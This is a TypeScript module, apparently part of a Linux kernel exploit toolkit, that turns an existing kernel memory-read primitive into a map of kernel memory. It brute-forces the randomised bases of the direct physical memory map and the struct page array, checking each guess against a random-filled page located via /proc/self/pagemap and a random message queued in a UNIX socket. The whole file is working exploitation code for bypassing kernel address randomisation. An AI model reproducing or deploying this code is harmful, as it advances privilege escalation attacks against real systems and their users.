/**
 * Where the kernel sees the contents of a page of which only its description (struct page) is known.
 *
 * Both the mapping of all memory and the array of descriptions begin at a random place that is a multiple of 1 GiB
 * (Documentation/arch/x86/x86_64/mm.rst). Which it is, is tried on memory of our own that nobody else has the like of: a page whose
 * number /proc/self/pagemap tells, and a message in a socket that lies in pages.
 */
import { closeSync } from "node:fs";
import { KernelError } from "../errors.js";
import type { KernelSockets } from "./kernel-sockets.js";
import { MAP_ANONYMOUS, MAP_POPULATE, MAP_PRIVATE, PAGE_BYTES, PROT_READ, PROT_WRITE, mmap, munmap, ownMemory } from "./memory.js";
import { frameOf } from "./pagemap.js";
import { fillRandomly } from "./random.js";
import { AF_UNIX } from "./addresses.js";
import { SOCK_CLOEXEC, SOCK_DGRAM, sendmsg, socketpair } from "./sockets.js";

const GIB = 1n << 30n;
/** Machines with more than 8 TiB are left alone. */
const MOST_MEMORY_GIB = 8192;
/** Each GiB of descriptions is 64 GiB of memory. */
const MOST_DESCRIPTIONS_GIB = MOST_MEMORY_GIB / 64 + 1;
const SIGN_BYTES = 32;
/** So long that it does not fit into one piece of the kernel's memory. */
const MESSAGE_BYTES = 64 << 10;

const below = (address: bigint) => address & ~(GIB - 1n);

export class KernelPages {
  /** Where memory is mapped, and where its descriptions begin. */
  readonly #memory: bigint;
  readonly #descriptions: bigint;
  readonly #eachBytes: bigint;

  constructor(memory: bigint, descriptions: bigint, eachBytes: number) {
    this.#memory = memory;
    this.#descriptions = descriptions;
    this.#eachBytes = BigInt(eachBytes);
  }

  /** The address of a page's contents; undefined: it is no description of a page. */
  addressOf(page: bigint): bigint | undefined {
    const behind = page - this.#descriptions;
    return behind < 0n || behind % this.#eachBytes !== 0n ? undefined : this.#memory + (behind / this.#eachBytes) * BigInt(PAGE_BYTES);
  }

  /** `eachBytes`: of a description. */
  static learn(kernel: KernelSockets, eachBytes: number): KernelPages | undefined {
    if (eachBytes === 0) return undefined;
    let ends: readonly [number, number] | undefined;
    try {
      ends = socketpair({ family: AF_UNIX, type: SOCK_DGRAM | SOCK_CLOEXEC });
      const message = fillRandomly(Buffer.alloc(MESSAGE_BYTES));
      sendmsg(ends[0], message);
      return learnFrom(kernel, { receiver: ends[1], message, eachBytes });
    } catch (error) {
      if (error instanceof KernelError) return undefined;
      throw error;
    } finally {
      for (const fd of ends ?? []) closeSync(fd);
    }
  }
}

function learnFrom(
  kernel: KernelSockets,
  { receiver, message, eachBytes }: { receiver: number; message: Buffer; eachBytes: number },
): KernelPages | undefined {
  const socket = kernel.find(receiver);
  const first = socket === undefined ? undefined : kernel.queue(socket + BigInt(kernel.at("sock", "sk_receive_queue")))?.[0];
  const pieces = first === undefined ? [] : kernel.pagesOf(first);
  const piece = pieces[0];
  if (piece === undefined) return undefined;
  // What is not in pages comes first.
  const from = message.length - pieces.reduce((sum, { length }) => sum + length, 0);
  const sign = message.subarray(from, from + SIGN_BYTES);
  const memory = findMemory(kernel, piece.head);
  if (memory === undefined) return undefined;
  for (let k = 0; k < MOST_DESCRIPTIONS_GIB; k++) {
    const pages = new KernelPages(memory, below(piece.page) - BigInt(k) * GIB, eachBytes);
    const address = pages.addressOf(piece.page);
    if (address !== undefined && kernel.read(address + BigInt(piece.offset), SIGN_BYTES)?.equals(sign) === true) return pages;
  }
  return undefined;
}

/** Where all memory is mapped; `inside`: an address there. */
function findMemory(kernel: KernelSockets, inside: bigint): bigint | undefined {
  const range = { sizeBytes: BigInt(PAGE_BYTES) };
  const address = mmap({ ...range, protection: PROT_READ | PROT_WRITE, flags: MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE });
  try {
    const sign = fillRandomly(ownMemory({ address, ...range }).subarray(0, SIGN_BYTES));
    const frame = frameOf(address);
    if (frame === undefined) return undefined;
    for (let k = 0; k < MOST_MEMORY_GIB; k++) {
      const memory = below(inside) - BigInt(k) * GIB;
      if (kernel.read(memory + frame * BigInt(PAGE_BYTES), SIGN_BYTES)?.equals(sign) === true) return memory;
    }
    return undefined;
  } finally {
    munmap({ address, ...range });
  }
}
